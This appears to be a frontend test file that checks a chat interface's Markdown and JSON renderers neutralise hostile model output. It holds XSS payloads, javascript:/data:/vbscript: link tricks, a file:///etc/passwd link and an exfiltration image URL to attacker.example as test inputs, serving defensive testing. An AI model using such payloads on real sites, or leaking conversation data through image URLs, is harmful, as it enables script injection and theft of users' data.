import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { JsonView } from './json-view';
import { Markdown } from './markdown';
import { loadMarkdownRenderer } from './renderer-loader';
import { safeUrlTransform } from './safe-url';

// Model output and tool results are attacker-controlled: these payloads must render as inert text.

beforeAll(async () => {
  await loadMarkdownRenderer();
});

afterEach(cleanup);

const DANGEROUS = 'script, iframe, object, embed, svg, math, form, img, video, audio, link, meta, style, base';
const attrs = (container: HTMLElement) =>
  [...container.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`));

describe('XSS payloads in model output', () => {
  it.each([
    ['raw script', '<script>window.pwned = 1</script>'],
    ['img onerror', '<img src=x onerror="window.pwned = 1">'],
    ['svg onload', '<svg onload="window.pwned = 1"><circle r="5"/></svg>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['object/embed', '<object data="https://evil.example/x.swf"></object><embed src="x.swf">'],
    ['form post', '<form action="https://evil.example/steal" method="post"><button>Go</button></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['style injection', '<style>body{background:url(https://evil.example/x)}</style>'],
    ['inline html in a paragraph', 'Hello <b onmouseover="window.pwned = 1">bold</b> world'],
  ])('%s renders as text, creating no element and no handler', (_name, payload) => {
    const { container } = render(<Markdown text={payload} />);
    expect(container.querySelector(DANGEROUS)).toBeNull();
    expect(attrs(container).filter((a) => /^on/i.test(a))).toEqual([]);
    expect(container.textContent).toContain(payload.includes('Hello') ? 'bold' : payload.slice(0, 8));
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });
});

describe('link schemes', () => {
  it.each([
    ['entity-encoded javascript:', '[x](&#106;avascript:alert(1))'],
    ['hex-entity javascript:', '[x](&#x6A;&#x61;vascript:alert(1))'],
    ['newline inside the scheme', '[x](<java\nscript:alert(1)>)'],
    ['leading space', '[x]( javascript:alert(1))'],
    ['DATA: upper case', '[x](DATA:text/html,<script>alert(1)</script>)'],
    ['VbScRiPt mixed case', '[x](VbScRiPt:msgbox(1))'],
    ['file: scheme', '[x](file:///etc/passwd)'],
    ['protocol-relative reference', '[x][r]\n\n[r]: //evil.com/steal'],
    ['reference to data:', '[x][r]\n\n[r]: data:text/html,hi'],
    ['backslash host trick', '[x](/\\evil.com)'],
  ])('%s is neutralised: no href, text kept', (_name, text) => {
    const { container } = render(<Markdown text={text} />);
    expect(container.querySelector('a')).toBeNull();
    expect(container.querySelector('[href]')).toBeNull();
    expect(container.textContent).toContain('x');
  });

  it('autolinks (angle and bare) only become links for http(s)/mailto, opened safely', () => {
    const { container } = render(
      <Markdown text={'<https://ok.example/a> <mailto:me@ok.example> www.bare.example <vbscript:x> <data:text/html,hi>'} />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://ok.example/a', 'mailto:me@ok.example', 'http://www.bare.example']);
    for (const a of links) expect([a.target, a.rel]).toEqual(['_blank', 'noopener noreferrer']);
  });

  it('safeUrlTransform allows only http(s)/mailto/#anchor links and http(s) images', () => {
    expect(safeUrlTransform('https://a.example/x', 'href')).toBe('https://a.example/x');
    expect(safeUrlTransform('MAILTO:a@b.c', 'href')).toBe('MAILTO:a@b.c');
    expect(safeUrlTransform('#sec', 'href')).toBe('#sec');
    expect(safeUrlTransform('j\u0000avascript:alert(1)', 'href')).toBe('');
    expect(safeUrlTransform('mailto:a@b.c', 'src')).toBe('');
    expect(safeUrlTransform('#x', 'src')).toBe('');
    expect(safeUrlTransform('//evil.com/x.png', 'src')).toBe('');
    expect(safeUrlTransform('data:image/png;base64,AA', 'src')).toBe('');
  });
});

describe('exfiltration images', () => {
  it('an image carrying conversation data is not requested until clicked, and the button names the host', () => {
    const { container } = render(<Markdown text="![x](https://attacker.example/log?q=SECRET)" />);
    expect(container.querySelector('img')).toBeNull();
    expect(container.innerHTML).not.toContain('SECRET');
    const button = screen.getByRole('button', { name: /Load image from attacker\.example/ });
    fireEvent.click(button);
    expect(container.querySelector('img')?.getAttribute('src')).toBe('https://attacker.example/log?q=SECRET');
  });

  it('reference-style images wait for a click too; unsafe ones offer no button at all', () => {
    const { container } = render(
      <Markdown text={'![a][ok] ![b][bad] ![c](javascript:alert(1)) ![d](//evil.com/p.png)\n\n[ok]: https://img.example/a.png\n[bad]: data:image/svg+xml;base64,PHN2Zz4='} />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getAllByRole('button').map((b) => b.textContent)).toEqual(['Load image from img.examplea']);
    expect(container.textContent).toContain('[image: b]');
    expect(container.textContent).toContain('[image: d]');
  });

  it('an image inside a link loads without following the link', () => {
    const { container } = render(<Markdown text="[![pic](https://img.example/p.png)](https://site.example/)" />);
    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://site.example/');
    // dispatchEvent returns false when the default (following the link) was prevented.
    const followed = fireEvent.click(screen.getByRole('button', { name: /Load image from img\.example/ }));
    expect(followed).toBe(false);
    expect(container.querySelector('img')).not.toBeNull();
  });
});

describe('tool results in cards (JsonView)', () => {
  it('renders HTML-looking strings in a result as text, never as elements', () => {
    const value = { html: '<img src=x onerror="window.pwned = 1">', svg: '<svg onload=alert(1)>', link: 'javascript:alert(1)' };
    const { container } = render(<JsonView value={value} />);
    expect(container.querySelector(DANGEROUS)).toBeNull();
    expect(container.querySelector('a, [href]')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror=\\"window.pwned = 1\\">');
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });
});
